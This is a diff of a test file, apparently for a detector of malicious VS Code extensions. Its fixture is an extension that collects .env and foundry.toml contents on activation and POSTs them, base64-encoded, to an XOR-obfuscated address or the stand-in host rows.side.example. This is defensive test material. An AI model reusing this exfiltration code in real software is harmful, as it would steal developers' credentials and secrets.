@@ -82,7 +82,7 @@ test('keys that are pressed, by way of another script; good: what stands in a fi
 
 test('settings that are looked for go to an address that is written as numbers', () => {
   const found = (address: string, pattern = '**/.env*'): string[] => told('vscode', { 'index.js': `const vscode = require('vscode'); const { warm } = require('./warm'); exports.activate = () => warm(vscode.workspace);`, 'warm.js': `const p = (...c) => String.fromCharCode(...c.map((x) => x ^ 21)); const kinds = ['**/.prettierignore', '${pattern}']; exports.warm = async (workspace) => { const kept = new Map(); for (const kind of kinds) for (const uri of await workspace.findFiles(kind)) kept.set(uri.path, Buffer.from(await workspace.fs.readFile(uri)).toString('base64')); await fetch(${address}, { method: 'POST', body: JSON.stringify([...kept]) }); };` });
-  assert.match(found('p(125, 97, 97, 101)').join(), /settings of a project/);
+  for (const address of ['p(125, 97, 97, 101)', '`${p(125, 97, 97, 101)}/rows`', "'' + p(125, 97, 97, 101)"]) assert.match(found(address).join(), /settings of a project/, address);
   assert.match(found("'https://rows.side.example'").join(), /settings of a project/);
   assert.match(found("'https://rows.side.example'", '{**/.env*,**/foundry.toml}').join(), /settings of a project/);
   assert.deepEqual(found("'https://rows.side.example'", '**/*.md'), []);
